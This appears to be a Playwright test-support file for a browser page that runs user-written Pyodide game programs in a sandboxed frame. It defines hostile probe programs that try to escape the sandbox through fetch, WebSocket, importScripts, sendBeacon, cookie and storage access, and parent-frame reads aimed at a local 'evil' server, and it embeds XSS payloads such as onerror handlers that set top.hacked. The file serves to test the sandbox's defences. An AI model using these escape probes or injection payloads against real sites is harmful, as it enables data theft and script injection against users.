"""The page on which one writes a game, and programs that try to get out of its frame."""

from __future__ import annotations

import base64
import json
import threading
import zlib
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from playwright.sync_api import FrameLocator, Page, expect

MINUTES = 4 * 60_000  # milliseconds; Python starts in the page, on a busy machine

ATTACKS = """
const tries = {
  fetch: () => WorkerGlobalScope.prototype.fetch.call(self, EVIL),
  site: () => WorkerGlobalScope.prototype.fetch.call(self, SITE),
  xhr: () => new Promise((done, failed) => {
    const asked = new XMLHttpRequest();
    asked.onload = done;
    asked.onerror = () => failed(new Error("refused"));
    asked.open("GET", EVIL);
    asked.send();
  }),
  socket: () => new Promise((done, failed) => {
    const opened = new WebSocket(EVIL.replace("http", "ws"));
    opened.onopen = done;
    opened.onerror = () => failed(new Error("refused"));
  }),
  events: () => new Promise((done, failed) => {
    const source = new EventSource(EVIL);
    source.onopen = done;
    source.onerror = () => failed(new Error("refused"));
  }),
  transport: () => new WebTransport(EVIL.replace("http:", "https:")).ready,
  script: () => importScripts(EVIL),
  module: () => import(EVIL),
  siteModule: () => import(SITE),
  worker: () => new Promise((done, failed) => {
    const made = new Worker(EVIL);
    made.onmessage = done;
    made.onerror = () => failed(new Error("refused"));
  }),
  beacon: () => { if (!navigator.sendBeacon(EVIL)) throw new Error("refused"); },
  storage: () => localStorage.getItem("secret"),
  database: () => new Promise((done, failed) => {
    const asked = indexedDB.open("x");
    asked.onsuccess = done;
    asked.onerror = () => failed(asked.error);
  }),
  caches: () => caches.keys(),
  files: () => navigator.storage.getDirectory(),
  cookies: () => cookieStore.getAll(),
  peer: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:" + new URL(EVIL).host }] }),
  page: () => parent.document.title,
  top: () => top.document.title,
  window: () => { if (!open(EVIL)) throw new Error("refused"); },
  serviceWorker: () => navigator.serviceWorker.getRegistrations(),
};
async function attack() {
  const done = {};
  for (const [name, one] of Object.entries(tries)) {
    const late = new Promise((_, failed) => setTimeout(() => failed(new Error("no answer")), 3000));
    done[name] = await Promise.race([Promise.resolve().then(one), late]).then(() => "DONE", String);
  }
  return done;
}
"""
"""Ways out of a worker or frame; ``attack()`` tries all, and says DONE of each that worked."""

PROGRAM = '''
import json
import js
from pyodide.ffi import create_proxy, to_js
from pyodide.http import open_url

import piecepack_nb as pp
from piecepack_nb.design import Board

EVIL, SITE = {evil!r}, {site!r}
done = {{}}

def attempt(name, call):
    try:
        call()
        done[name] = "DONE"
    except BaseException as error:
        done[name] = repr(error)[:80]

attempt("py open_url", lambda: open_url(EVIL))
attempt("py urllib", lambda: __import__("urllib.request").request.urlopen(EVIL, timeout=1))
attempt("py micropip", lambda: __import__("micropip").install(EVIL))
attempt("py importScripts", lambda: js.importScripts(EVIL))
attempt("py parent", lambda: js.parent.document)
attempt("py localStorage", lambda: js.localStorage.getItem("secret"))
attempt("py eval", lambda: js.eval("1"))
attempt("py function", lambda: js.Function.new("return 1"))

def say(kind, text):
    js.postMessage(js.JSON.parse(json.dumps({{"kind": kind, "text": text}})))

for forged in ("ready", "stopped", "nonsense", "__proto__", "constructor", "height", "<b>"):
    say(forged, "<img src=x onerror='top.hacked=1'>")
js.postMessage(js.JSON.parse('{{"kind": "height", "value": 1e99}}'))
js.postMessage(js.JSON.parse('{{"kind": "answer", "id": "constructor", "text": "{{}}"}}'))

code = js.Blob.new(to_js([
    f"const EVIL = {{json.dumps(EVIL)}}, SITE = {{json.dumps(SITE)}};",
    {attacks!r},
    "attack().then((done) => postMessage(JSON.stringify(done)))",
]))
nested = js.Worker.new(js.URL.createObjectURL(code))
nested.onmessage = create_proxy(
    lambda event: told({{**done, **json.loads(event.data)}}))

def told(done):
    out = [name for name, outcome in done.items() if outcome == "DONE"]
    say("failed", f"TRIED {{len(done)}}, OUT BY {{out}}.")

@pp.register
class Hostile(Board):
    """<script>top.hacked = 1</script>"""
    title = "<img src=x onerror='top.hacked=1'>"
    author = "<b>A friend</b>\\u202e"
    seats = ("suns", "moons")
    places = Board.squares(3, 3)

    def move(self, table, place):
        table[place] = table.seat

    def prompt(self, table, picks):
        return "<img src=x onerror='top.hacked=1'>"
'''

ENDLESS = """
import piecepack_nb as pp
from piecepack_nb.design import Board

@pp.register
class Endless(Board):
    places = Board.squares(3, 3)

    def move(self, table, place):
        while table.turn > 1:
            pass
"""


@contextmanager
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Serve another host than the site; yield its address and what it was asked."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET  # noqa: N815 - as http.server calls it

        def log_message(self, format: str, *arguments: object) -> None:
            """Print nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as serving:
        threading.Thread(target=serving.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{serving.server_address[1]}/evil", asked
        serving.shutdown()


def link_to(program: str) -> str:
    """Return the fragment of a program's link."""
    packer = zlib.compressobj(9, wbits=-15)
    content = packer.compress(json.dumps({"program": program}).encode()) + packer.flush()
    return f"#game1.{base64.urlsafe_b64encode(content).decode().rstrip('=')}"


DAMAGED = {
    "#game1.AAAA": "damaged",
    "#game2.AAAA": "version is 2",
    "#gift1.AAAA": "no link to a game",
    link_to("class A: pass")[:-4]: "damaged",
    link_to("x" * 200_000): "has 200000 characters",
    link_to("x" * 5_000_000): "damaged",
}
"""Fragments of links that can't be opened, and what the page says of them."""


def board(page: Page) -> FrameLocator:
    """Return the frame with the board."""
    return page.frame_locator("iframe.runner")


def says(page: Page, text: str) -> None:
    """Wait until the page says a text."""
    expect(page.locator("#status")).to_contain_text(text, timeout=MINUTES)


def written(page: Page, text: str) -> None:
    """Write at the end of the program."""
    page.locator(".cm-content").focus()
    page.keyboard.press("Control+End")
    page.keyboard.insert_text(text)


def hostile(evil: str, site: str) -> str:
    """Return a program that tries to get out."""
    return PROGRAM.format(evil=evil, site=site, attacks=ATTACKS)
